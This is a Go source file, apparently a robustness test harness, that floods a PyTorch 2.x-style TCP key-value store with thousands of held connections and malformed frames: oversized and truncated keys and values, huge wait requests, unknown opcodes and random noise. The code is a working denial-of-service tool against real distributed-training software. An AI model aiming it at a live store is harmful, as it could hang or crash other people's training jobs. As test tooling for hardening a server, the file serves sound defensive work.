package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"strconv"
	"sync"
	"time"
)

// What an attack consists of.
const (
	idle      = 2000
	waits     = 520
	waitKeys  = 131071
	frames    = 10000
	attackers = 4 // at the same time
	openHalf  = 200
)

// attack is what the attacking process does: it attacks the store at the address, spread
// over a time, says "done", and keeps its connections until stdin ends.
func attack(addr, spread string) error {
	seconds, err := strconv.ParseFloat(spread, 64)
	if err != nil {
		return err
	}
	pause := time.Duration(seconds * float64(time.Second) / (frames / attackers))
	var keep connections
	defer keep.close()
	for range idle {
		keep.dial(addr)
	}
	var wg sync.WaitGroup
	for a := range attackers {
		wg.Go(func() {
			r := rand.New(rand.NewPCG(uint64(a), 1))
			wait := waitFrame()
			tick := time.NewTicker(max(pause, time.Microsecond))
			defer tick.Stop()
			for i := range frames / attackers {
				<-tick.C
				if i*waits/frames != (i+1)*waits/frames { // waits/attackers of them
					if c := keep.dial(addr); c != nil {
						c.SetWriteDeadline(time.Now().Add(10 * time.Second))
						c.Write(wait) // the store may hang up on it
					}
				}
				c, err := net.DialTimeout("tcp", addr, time.Second)
				if err != nil {
					continue
				}
				c.SetDeadline(time.Now().Add(time.Second))
				text, half := frame(r, i)
				c.Write(text)
				if half && i%(frames/openHalf) == 0 {
					keep.add(c)
				} else {
					c.Close()
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("done: %d connections were taken and %d of %d are open\n", keep.taken, keep.alive(), len(keep.open))
	_, err = io.Copy(io.Discard, os.Stdin)
	return err
}

// connections are those that the attacker keeps.
type connections struct {
	mu    sync.Mutex
	open  []net.Conn
	taken int
}

func (k *connections) dial(addr string) net.Conn {
	c, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		return nil
	}
	k.add(c)
	return c
}

func (k *connections) add(c net.Conn) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.open = append(k.open, c)
	k.taken++
}

// alive counts the connections that the store has not closed.
func (k *connections) alive() (n int) {
	for _, c := range k.open {
		c.SetReadDeadline(time.Now().Add(100 * time.Microsecond))
		if _, err := c.Read(make([]byte, 1)); err != nil && os.IsTimeout(err) {
			n++
		}
	}
	return n
}

func (k *connections) close() {
	for _, c := range k.open {
		c.Close()
	}
}

// hello opens a connection of the dialect of PyTorch 2.x.
var hello = binary.LittleEndian.AppendUint32([]byte{0}, 0x3C85F7CE)

// The codes of requests.
const (
	codeSet  = 1
	codeWait = 6
)

// waitFrame waits for very many empty keys.
func waitFrame() []byte {
	b := append(append([]byte(nil), hello...), codeWait)
	b = binary.LittleEndian.AppendUint64(b, waitKeys)
	return append(b, make([]byte, 8*waitKeys)...)
}

// frame is the i-th attack of one attacker, and whether the store has to wait for more.
func frame(r *rand.Rand, i int) (text []byte, half bool) {
	opened := func(code byte) []byte { return append(append([]byte(nil), hello...), code) }
	le := binary.LittleEndian
	noise := make([]byte, 1+r.IntN(4096))
	for i := range noise {
		noise[i] = byte(r.Uint32())
	}
	switch i % 8 {
	case 0:
		return noise, false
	case 1: // a key of exabytes
		return le.AppendUint64(opened(codeSet), 1<<62), false
	case 2: // a key cut off
		return append(le.AppendUint64(opened(codeSet), 5000), noise[:min(len(noise), 4999)]...), true
	case 3: // a value cut off
		return append(le.AppendUint64(append(le.AppendUint64(opened(codeSet), 1), 'k'), 8<<20), noise...), true
	case 4: // keys cut off
		return append(le.AppendUint64(opened(codeWait), 100000), make([]byte, 8*100)...), true
	case 5: // a code that there is not
		return append(opened(200), noise...), false
	case 6: // a value that stays
		key := fmt.Sprintf("hostile/%d/%d", r.Uint64(), i)
		b := append(le.AppendUint64(opened(codeSet), uint64(len(key))), key...)
		return append(le.AppendUint64(b, 64<<10), make([]byte, 64<<10)...), false
	default:
		return []byte("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"), false
	}
}
